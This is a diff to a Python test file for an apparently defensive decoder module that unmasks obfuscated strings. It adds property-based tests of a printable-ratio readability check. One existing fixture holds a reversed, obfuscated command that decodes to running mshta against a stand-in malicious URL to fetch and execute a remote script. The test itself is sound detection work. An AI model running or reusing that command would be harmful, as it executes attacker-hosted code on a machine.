@@ -3,7 +3,11 @@
 import base64
 import gzip
 
+from hypothesis import given
+from hypothesis import strategies as st
+
 from app.detection.decoders import (
+    MIN_PRINTABLE,
     bytes_to_text,
     decode_base64,
     decode_char_codes,
@@ -11,6 +15,8 @@ from app.detection.decoders import (
     decode_reversed,
     decode_unicode_escapes,
     decode_url_escapes,
+    printable_ratio,
+    readable,
 )
 
 
@@ -75,3 +81,26 @@ def test_reversed_only_with_a_reversal_hint() -> None:
     hidden = "'atv.ssf/tset.live//:sptth athsm'[-1..-100] -join ''"
     assert any("mshta https://evil.test/fss.vta" in d for d in decode_reversed(hidden))
     assert list(decode_reversed("athsm plain text")) == []
+
+
+# junk as base64 and inflate attempts give it: ASCII, blanks, controls, U+FFFD, surrogates,
+# other scripts' letters and unassigned code points, in any mix
+_MIXED = st.text(
+    st.one_of(
+        st.sampled_from("abc XYZ~\t\r\n\x00\x07\x7f\ufffd\u00a0\u200b\u3000"),
+        st.characters(codec=None, exclude_categories=()),
+    ),
+    max_size=80,
+)
+
+
+@given(_MIXED)
+def test_readable_is_the_printable_ratio_test(text: str) -> None:
+    """The byte counts only settle what the character by character count would."""
+    assert readable(text) == (printable_ratio(text) >= MIN_PRINTABLE)
+
+
+@given(st.binary(max_size=64))
+def test_decoded_junk_is_readable_as_counted(data: bytes) -> None:
+    text = data.decode("utf-8", errors="replace")
+    assert readable(text) == (printable_ratio(text) >= MIN_PRINTABLE)
